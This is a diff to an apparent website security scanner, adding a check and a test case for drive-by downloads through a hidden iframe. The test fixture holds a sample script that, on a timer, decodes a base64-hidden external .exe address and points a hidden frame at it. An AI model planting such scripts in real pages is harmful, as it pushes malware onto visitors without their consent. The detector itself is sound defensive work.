@@ -257,6 +257,20 @@ _ANCHOR_DL = re.compile(r"createElement\(\s*['\"]a['\"]\s*\)[\s\S]{0,300}?\.href
 _DOWNLOAD_PAGE = re.compile(r"download|xiazai|下载|安装", re.I)
 
 
+# a timer that points a hidden frame at an executable whose address it hides (….getElementById('dl').src=atob('…exe')):
+# the address is decoded, never run
+_SRC_SET = re.compile(r"\.src\s*=")
+_EXE_URL = re.compile(r"^(?:https?:)?//[^\s'\"]{1,300}?\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg)(?:$|[?#])", re.I)
+
+
+def _hidden_frame_drive_by(p: Page, code: str) -> str:
+    if ".src" not in code or not ("iframe" in code or any(not f.visible for f in p.iframes)):
+        return ""
+    if not auto_positions(code, _SRC_SET):
+        return ""
+    return next((u for u in hidden_strings(code) if _EXE_URL.search(u) and not same_site(u, p.url)), "")
+
+
 def _anchor_drive_by(p: Page, sc: Script) -> re.Match[str] | None:
     code = sc.inline or ""
     if ".click(" not in code or "createElement" not in code:
@@ -279,6 +293,11 @@ def check_drive_by(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit
         if m and not _CLICK.search(sc.inline or "") and not same_site(m.group(1), p.url):
             yield Hit(match=m.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
                       confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载可执行文件）")
+            break
+        hidden = _hidden_frame_drive_by(p, sc.inline or "") if not _CLICK.search(sc.inline or "") else ""
+        if hidden:
+            yield Hit(match=hidden[-60:], location=Location(kind="script", selector=sc.src or "inline"),
+                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载隐藏地址的可执行文件）")
             break
         a = _anchor_drive_by(p, sc)
         if a is not None:
@@ -403,7 +422,11 @@ RULES: tuple[Rule, ...] = (
               site(page(HOME + "articles.html", "养生文章", rendered=True, scripts=(Script(inline=(
                   "setTimeout(function(){var a=document.createElement('a');a.href='download/helper.apk';"
                   "a.download='helper.apk';document.body.appendChild(a);a.click();},1500);")),)),
-                   description="文章页脚本自行点击本站 apk 下载链接"),),
+                   description="文章页脚本自行点击本站 apk 下载链接"),
+              site(home("下载助手", rendered=True, iframes=(Iframe("about:blank", 0, 0, visible=False),), scripts=(Script(inline=(
+                  "setTimeout(function(){var u=atob('aHR0cDovL2RsLmV4YW1wbGUudG9wL0hlbHBlci5leGU=');"
+                  "document.getElementById('dl').src=u;},3000);")),)),
+                   description="定时把隐藏框架指向 atob 解码出的外站 exe"),),
          good=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "manual.pdf", user_initiated=True),)),
                     description="用户点击下载说明书"),
                site(home("下载客户端", rendered=True, scripts=(Script(inline=(
